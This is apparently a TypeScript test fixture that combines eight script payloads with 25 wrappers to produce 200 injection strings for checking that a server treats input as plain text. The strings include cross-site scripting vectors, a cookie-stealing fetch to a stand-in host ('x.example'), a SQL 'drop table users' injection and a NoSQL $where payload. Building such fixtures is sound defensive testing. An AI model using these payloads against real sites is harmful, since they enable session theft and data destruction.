const payloads = [
  'alert(1)',
  "fetch('//x.example?'+document.cookie)",
  'top[8680439..toString(30)](1)',
  '${7*7}{{7*7}}',
  "'-alert(1)-'",
  '\\u0061lert(1)',
  '&#97;lert(1)',
  '/*é漢😀*/alert`1`',
] as const;

const wrappers: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `</title><script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><script>${code}</script>`,
  (code) => `]]><script>${code}</script>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src="x" onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg/onload='${code}'>`,
  (code) => `<body onload=${code}>`,
  (code) => `<iframe src="javascript:${code}">`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}//`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `" onmouseover="${code}`,
  (code) => `' onfocus='${code}' autofocus='`,
  (code) => `<math><mi xlink:href="javascript:${code}">`,
  (code) => `<template><script>${code}</script>`,
  (code) => `<style>@import 'x'</style>${code}`,
  (code) => `<!--<script>${code}--></script>`,
  (code) => `'; drop table users; -- ${code}`,
  (code) => `{"$where":"${code}"}`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
];

/** 200 texts that some program would execute; the server must treat them as text. */
export const scriptStrings: readonly string[] = wrappers.flatMap((wrap) =>
  payloads.map((code) => wrap(code)),
);

/** The same texts, cut to the length of a field, trimmed, all different. */
export const scriptStringsUpTo = (length: number): string[] =>
  scriptStrings.map((text, index) => {
    const number = `${index} `;
    const cut = (number + text).slice(0, length);
    return (cut.isWellFormed() ? cut : cut.slice(0, -1)).trim();
  });
